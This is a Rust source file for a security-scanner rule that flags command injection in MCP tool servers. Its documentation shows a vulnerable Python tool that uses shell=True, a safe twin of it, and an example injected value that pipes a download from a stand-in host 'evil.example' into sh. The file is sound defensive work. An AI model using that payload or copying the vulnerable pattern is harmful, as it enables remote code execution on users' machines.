//! `VG-S-007 command-injection`: input becomes part of a command line.
//!
//! # What it finds
//! A parameter of a tool that reaches a shell, or becomes the program that is started, without a check that counts:
//! a list of arguments without a shell, `shlex.quote`, or comparing with a list of what is allowed.
//!
//! # Why it matters
//! A shell reads `main; curl evil.example | sh` as two commands. Whoever can make an agent call the tool then runs what
//! they like on the machine of its user.
//!
//! # Attack
//! ```python
//! import subprocess
//! from mcp.server.fastmcp import FastMCP
//! mcp = FastMCP("git")
//!
//! @mcp.tool()
//! def log(branch: str) -> str:
//!     """Shows the log of a branch."""
//!     return subprocess.check_output(f"git log {branch}", shell=True, text=True)
//! ```
//!
//! # Harmless twin
//! ```python
//! import subprocess
//! from mcp.server.fastmcp import FastMCP
//! mcp = FastMCP("git")
//!
//! @mcp.tool()
//! def log(branch: str) -> str:
//!     """Shows the log of a branch."""
//!     return subprocess.check_output(["git", "log", "--end-of-options", branch, "--"], text=True)
//! ```
//!
//! # Cannot see
//! What the program that is started makes of its arguments.

use super::{Findings, Rule, RuleMeta, Subject, flows};
use vetgate_model::{Lifecycle, Severity, ThreatType};
use vetgate_source::Danger;

/// See the module documentation.
pub(super) struct CommandInjection;

impl Rule for CommandInjection {
    fn meta(&self) -> RuleMeta {
        RuleMeta {
            id: "VG-S-007",
            name: "command-injection",
            severity: Severity::Critical,
            threat: ThreatType::MaliciousCode,
            lifecycle: Lifecycle::Stable,
            advice: "Start the program with a list of arguments and without a shell, end its options with `--`, and \
                     take what chooses the program from a fixed list.",
            source: include_str!("command_injection.rs"),
        }
    }

    fn inspect(&self, subject: &Subject<'_>, out: &mut Findings<'_>) {
        flows::report(Danger::Command, "so the caller controls which command runs (command injection)", subject, out);
    }
}
